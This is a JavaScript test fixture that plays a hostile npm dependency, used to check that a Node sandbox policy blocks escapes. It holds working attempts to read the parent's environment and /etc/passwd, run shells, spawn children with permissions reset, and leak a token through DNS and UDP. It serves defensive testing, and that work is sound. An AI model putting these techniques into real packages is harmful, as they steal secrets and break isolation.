'use strict';
/* global fetch, setTimeout, clearTimeout -- Node globals */
// A dependency turned hostile (#18): every escape the issue names, tried from inside a running
// server. Each attempt reports how it ended: `threw` (synchronous throw), `error-event`,
// `callback`, `rejected`, or `ok` (it got through; `detail` says what it saw). Copied into the
// generated app as node_modules/hostile/index.js by src/runtime/attacks.test.ts.
const childProcess = require('node:child_process');
const dgram = require('node:dgram');
const dns = require('node:dns');
const fs = require('node:fs');
const http = require('node:http');
const net = require('node:net');
const path = require('node:path');

const NODE_CHILD = 'try { require("fs").readFileSync("/etc/passwd"); console.log("child read /etc/passwd") } catch (e) { console.log("child " + e.code) }';

function failure(how, error) {
  return { how, code: error?.code ?? error?.cause?.code ?? null, message: String(error?.message ?? error) };
}

/** An emitter's `error` event, or its success event, whichever comes first. */
function settle(emitter, success, detail = () => '') {
  return new Promise((resolve) => {
    emitter.once('error', (error) => resolve(failure('error-event', error)));
    emitter.once(success, (value) => resolve({ how: 'ok', detail: detail(value) }));
  });
}

function callback(run) {
  return new Promise((resolve) => run((error, value) => resolve(error ? failure('callback', error) : { how: 'ok', detail: JSON.stringify(value) })));
}

function promised(promise) {
  return promise.then((value) => ({ how: 'ok', detail: JSON.stringify(value) }), (error) => failure('rejected', error));
}

function output(buffer) {
  return { how: 'ok', detail: String(buffer).trim() };
}

module.exports = async function attack({ allowed, forbidden, udp, tokenName }) {
  const attempts = {
    // Child processes: the policy lists `git --version`, `ls /proc` and `node` only.
    'sh -c': () => output(childProcess.execSync('id')),
    'curl to a forbidden port': () => output(childProcess.execFileSync('curl', ['-s', `http://127.0.0.1:${forbidden}/`])),
    'shell reads the parent environ': () => output(childProcess.execSync(`cat /proc/${process.ppid}/environ`)),
    'read the parent environ': () => output(fs.readFileSync(`/proc/${process.ppid}/environ`)),
    'fork with --allow-fs-read=*': () =>
      new Promise((resolve) => {
        const child = childProcess.fork(path.join(__dirname, 'child.js'), [], { execArgv: ['--allow-fs-read=*'], stdio: 'pipe' });
        let text = '';
        child.stdout.on('data', (chunk) => (text += chunk));
        child.on('error', (error) => resolve(failure('error-event', error)));
        child.on('close', () => resolve({ how: 'ok', detail: text.trim() }));
      }),
    "sh -c 'NODE_OPTIONS= node'": () => output(childProcess.execSync(`NODE_OPTIONS= node -e '${NODE_CHILD}'`)),
    'raw ChildProcess#spawn with envPairs': () =>
      new Promise((resolve) => {
        const child = new childProcess.ChildProcess();
        child.spawn({ file: '/bin/sh', args: ['sh', '-c', 'id'], envPairs: ['PATH=/usr/bin:/bin'], stdio: 'pipe' });
        let text = '';
        child.stdout.on('data', (chunk) => (text += chunk));
        child.on('exit', () => resolve({ how: 'ok', detail: text.trim() }));
      }),
    'process.execve': () => {
      if (typeof process.execve !== 'function') return { how: 'absent' };
      process.execve('/bin/sh', ['sh', '-c', 'echo escaped'], {});
      return { how: 'ok', detail: 'execve returned' };
    },
    'node child with NODE_OPTIONS emptied': () => output(childProcess.execFileSync(process.execPath, ['-e', NODE_CHILD], { env: { NODE_OPTIONS: '', PATH: process.env.PATH } })),
    'node child with --allow-fs-read=* in NODE_OPTIONS': () => output(childProcess.execFileSync('node', ['-e', NODE_CHILD], { env: { NODE_OPTIONS: '--allow-fs-read=*' } })),
    'allowed: git --version': () => output(childProcess.execFileSync('git', ['--version'])),
    'allowed: ls /proc (what a child can see)': () => output(childProcess.execFileSync('ls', ['/proc'])),

    // Network: the policy allows 127.0.0.1:<allowed> and the name allowed.test:<forbidden>.
    'connect to a forbidden port': () => settle(net.connect(forbidden, '127.0.0.1'), 'connect'),
    'custom lookup answers another address': () =>
      settle(net.connect({ host: 'allowed.test', port: forbidden, lookup: (name, options, done) => (options.all ? done(null, [{ address: '127.0.0.1', family: 4 }]) : done(null, '127.0.0.1', 4)) }), 'connect'),
    'http.get to a forbidden port': () => settle(http.get(`http://127.0.0.1:${forbidden}/`), 'response', (response) => String(response.statusCode)),
    'fetch to a forbidden port': () => promised(fetch(`http://127.0.0.1:${forbidden}/`).then((response) => response.status)),
    'Resolver.setServers to a forbidden server': () => {
      const resolver = new dns.Resolver();
      resolver.setServers([`127.0.0.1:${udp}`]);
      return callback((done) => resolver.resolve4(`${tokenName}.leak.test`, done));
    },
    'resolve4 of a name no rule allows (callback)': () => callback((done) => dns.resolve4(`${tokenName}.leak.test`, done)),
    'resolveTxt of a name no rule allows (promise)': () => promised(new dns.promises.Resolver().resolveTxt(`${tokenName}.leak.test`)),
    'dns.lookup of a name no rule allows': () => callback((done) => dns.lookup(`${tokenName}.leak.test`, done)),
    'dns.promises.lookup of a name no rule allows': () => promised(dns.promises.lookup(`${tokenName}.leak.test`)),
    'UDP send, string port, unbound socket, no callback': () => {
      const socket = dgram.createSocket('udp4');
      socket.send(`${tokenName}`, String(udp), '127.0.0.1');
      return settle(socket, 'listening').finally(() => socket.close());
    },
    'UDP send with a callback': () => {
      const socket = dgram.createSocket('udp4');
      return callback((done) => socket.send(`${tokenName}`, udp, '127.0.0.1', done)).finally(() => socket.close());
    },
    'UDP connect': () => {
      const socket = dgram.createSocket('udp4');
      socket.connect(udp, '127.0.0.1');
      return settle(socket, 'connect').finally(() => socket.close());
    },
    'listen on every interface': () => {
      const server = net.createServer();
      server.listen(0, '0.0.0.0');
      return settle(server, 'listening', () => String(server.address().port)).finally(() => server.close());
    },
    'allowed: connect to the allowed port': () =>
      new Promise((resolve) => {
        const socket = net.connect(allowed, '127.0.0.1');
        socket.on('data', (data) => resolve({ how: 'ok', detail: String(data) }));
        socket.on('error', (error) => resolve(failure('error-event', error)));
      }),

    // Files and the rest Node enforces.
    'read /etc/passwd': () => output(fs.readFileSync('/etc/passwd')),
    'write into the project': () => (fs.writeFileSync(path.join(__dirname, 'planted.js'), '1'), { how: 'ok' }),
    'symlink out of the project': () => (fs.symlinkSync('/etc/passwd', path.join(__dirname, 'link')), { how: 'ok' }),
    'start a worker': () => (new (require('node:worker_threads').Worker)('1', { eval: true }), { how: 'ok' }),
  };
  const results = {};
  for (const [name, run] of Object.entries(attempts)) {
    const start = Date.now();
    try {
      let timer;
      results[name] = await Promise.race([run(), new Promise((resolve) => (timer = setTimeout(resolve, 5000, { how: 'timeout' })))]).finally(() => clearTimeout(timer));
    } catch (error) {
      results[name] = failure('threw', error);
    }
    results[name].ms = Date.now() - start;
  }
  return results;
};
